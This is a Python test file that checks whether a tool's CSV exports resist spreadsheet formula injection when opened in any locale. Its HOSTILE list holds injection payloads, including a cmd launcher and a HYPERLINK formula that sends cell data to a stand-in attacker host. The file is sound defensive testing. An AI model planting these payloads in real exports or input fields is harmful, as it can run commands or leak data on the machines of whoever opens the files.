"""Hostile text through every exported CSV file, read as a spreadsheet in any locale would.

Excel in a German, French or Dutch locale opens a comma-separated file by cutting lines at
``;``, and a file may be read as tab-separated: quoting a cell does not help then, because the
cut is made inside it. Each hostile text goes into a participant label (every per-participant
file), questionnaire answers, a shared-data patch and a chat message; the files are written by
``labctl export`` and downloaded from the admin as ``results.zip``; each is parsed with ``,``,
``;`` and tab. No field may start with a formula character unless it is a number, and the
README's recipe gets the participant's exact text back.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from pathlib import Path

import pytest
import requests
from played_session import SHARED_FILES, Answers, play
from test_export_downloads import TIMEOUT, logged_in, url
from typer.testing import CliRunner

from labctl.cli import app
from labctl.server import downloads

HOSTILE = [
    "x;=cmd|' /C calc'!A0;y",
    "a,=1+1,b",
    "tab\t=HYPERLINK(\"http://attacker.example/?\"&A1)",
    "-2+3;@SUM(A1:A9)",
    "+1;-1;+cmd|' /C calc'!A0",
    'quote";=cmd|\' /C calc\'!A0',
    "semi;\"=1+1",
    "'=already an apostrophe;''@twice",
    "first line\n=1+1\r\n-cmd",
]
#: the files each hostile text must reach (CLI: results and payments; admin: results.zip)
FILES = ["results_wide.csv", "questionnaire.csv", "page_timings.csv", "payments.csv",
         "group_data.csv", "shared_documents.csv", "shared_messages.csv"]
DELIMITERS = [",", ";", "\t"]
#: README (Exporting data): how an analyst drops the apostrophes the export added
README_RECIPE = re.compile(r"""(^|[,;\t\r\n])'(?=["']*[=+\-@\t\r])""")
NUMBER = re.compile(r"[-+]?\d+(\.\d+)?")


def hostile_session(engine, text: str) -> str:
    """A session whose labels, answers, shared data and chat all carry ``text``, played."""
    code = engine.create_session("my_session", 4, labels=[f"{text}#{n}" for n in range(1, 5)],
                                 seed=5)
    answers = Answers(field_of_study=dict.fromkeys(range(1, 5), text),
                      comments=dict.fromkeys(range(1, 5), text))
    first = engine.participant_rows(code)[0]["code"]
    with engine.view(first):
        pass
    group = engine.shared_target(first, "group")
    changed = engine.shared_change(first, group, 0, replace={"chat": [text]})
    assert changed.accepted
    engine.shared_message(first, group, text)
    play(engine, None, code, answers)
    return code


def exposed_fields(data: bytes) -> list[str]:
    """Fields that start with a formula character and are not numbers, in any reading."""
    text = data.decode("utf-8-sig")
    found = []
    for delimiter in DELIMITERS:
        for record in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            found += [f"{delimiter!r}: {field!r}" for field in record
                      if field.startswith(("=", "+", "-", "@"))
                      and not NUMBER.fullmatch(field)]
    return found


def recovered_cells(data: bytes) -> list[str]:
    """Every cell of the file as its comma reading gives it, with the README's recipe."""
    reader = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    return [README_RECIPE.sub(r"\1", cell) for record in reader for cell in record]


def check_file(name: str, data: bytes, text: str) -> None:
    assert exposed_fields(data) == [], name
    cells = recovered_cells(data)
    in_json = json.dumps(text)[1:-1]
    if name in ("results_wide.csv", "page_timings.csv", "payments.csv"):
        assert f"{text}#1" in cells, (name, cells)
    if name in ("results_wide.csv", "questionnaire.csv"):
        assert cells.count(text) >= 4, (name, cells)
    if name in ("group_data.csv", "shared_documents.csv", "shared_messages.csv"):
        assert any(in_json in cell for cell in cells), (name, cells)


@pytest.mark.parametrize("text", HOSTILE)
def test_no_separator_exposes_a_formula_in_the_files_labctl_export_writes(sample_project,
                                                                          tmp_path, text):
    from labctl.engine import Engine
    from labctl.project import load_project
    from labctl.storage.sqlite import SqliteStore

    project = load_project(sample_project)
    store = SqliteStore(sample_project / "labctl.db")
    try:
        code = hostile_session(Engine(project, store), text)
    finally:
        store.close()
        project.unload()
    out = tmp_path / "out"
    runner = CliRunner()
    for command in ("results", "payments"):
        result = runner.invoke(app, ["export", command, "--project", str(sample_project),
                                     "--session", code, "--out", str(out)])
        assert result.exit_code == 0, result.output
    assert set(FILES) | set(SHARED_FILES) <= {path.name for path in out.iterdir()}
    for name in FILES:
        check_file(name, (out / name).read_bytes(), text)


@pytest.mark.parametrize("text", HOSTILE)
def test_no_separator_exposes_a_formula_in_the_admin_downloads(live_server, text):
    lab = live_server(admin_password="export-admin-password")
    if "downloads" not in lab.server.app.blueprints:  # until create_app registers it
        lab.server.app.register_blueprint(downloads.bp)
    code = hostile_session(lab.engine, text)
    http = logged_in(lab)
    response = http.get(url(lab, "results.zip", code), timeout=TIMEOUT)
    assert response.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    files = {name: archive.read(name) for name in archive.namelist()}
    payments = http.get(url(lab, "payments.csv", code), timeout=TIMEOUT)
    assert payments.status_code == 200
    files["payments.csv"] = payments.content
    for name in FILES:
        check_file(name, files[name], text)
    wide = requests.get(url(lab, "wide.csv", code), timeout=TIMEOUT, allow_redirects=False)
    assert wide.status_code == 302  # still behind the password


def test_a_negative_number_stays_a_bare_number_and_text_is_always_quoted():
    from decimal import Decimal

    from labctl.export.files import Table, csv_text

    table = Table(["n", "d", "f", "t", "none", "b"],
                  [{"n": -3, "d": Decimal("-0.125"), "f": -1.5, "t": "-3", "b": True}])
    assert csv_text(table).splitlines()[1] == '-3,-0.125,-1.5,"\'-3",,1'


def test_the_readme_gives_the_recipe_the_tests_use():
    readme = (Path(__file__).parents[2] / "README.md").read_text(encoding="utf-8")
    assert README_RECIPE.pattern in readme
